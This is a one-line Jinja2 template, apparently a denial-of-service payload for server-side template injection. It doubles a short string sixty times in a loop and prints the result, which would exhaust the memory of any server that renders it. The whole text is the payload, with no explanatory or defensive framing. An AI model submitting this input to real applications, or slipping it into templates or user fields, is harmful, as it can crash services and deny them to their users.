{% set ns = namespace(x="aaaaaaaaaaaaaaaa") %}{% for i in range(60) %}{% set ns.x = ns.x ~ ns.x %}{% endfor %}{{ ns.x }}
